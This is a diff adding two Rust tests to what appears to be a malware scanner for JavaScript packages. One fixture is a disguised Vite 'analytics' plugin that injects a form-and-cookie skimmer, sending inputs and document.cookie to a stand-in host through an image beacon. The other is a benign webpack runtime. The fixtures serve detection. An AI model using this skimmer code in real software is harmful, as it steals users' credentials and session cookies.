@@ -505,4 +505,36 @@ mod tests {
         ]);
         assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
     }
+
+    /// A Vite plugin's `transformIndexHtml` adds a script tag whose body harvests the page's
+    /// inputs and cookie into an image beacon.
+    #[test]
+    fn positive_script_tag_descriptor_of_an_html_transform() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const SNIP = \"document.addEventListener('submit',function(){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});d.c=document.cookie;new Image().src='https://cdn.example.net/p.gif?d='+btoa(JSON.stringify(d))});\";\nmodule.exports = function () {\n  return { name: 'analytics', transformIndexHtml() { return [{ tag: 'script', injectTo: 'body', children: SNIP }]; } };\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/browser-data-theft"),
+            vec![("index.js".to_string(), 3)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A webpack plugin prepends its chunk-loading runtime with `ConcatSource`: it reads no
+    /// page data.
+    #[test]
+    fn negative_webpack_runtime_banner() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const { ConcatSource } = require('webpack-sources');\nconst RUNTIME = \"(function(){var loaded={};window.__load=function(id){if(loaded[id])return loaded[id];return loaded[id]=fetch('/chunks/'+id+'.js').then(function(r){return r.text()});};})();\\n\";\nclass RuntimePlugin {\n  apply(compiler) {\n    compiler.hooks.compilation.tap('rt', (c) => c.hooks.processAssets.tap('rt', (assets) => {\n      for (const name of Object.keys(assets)) if (name.endsWith('.js')) assets[name] = new ConcatSource(RUNTIME, assets[name]);\n    }));\n  }\n}\nmodule.exports = RuntimePlugin;\n",
+            ),
+        ]);
+        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
+    }
 }
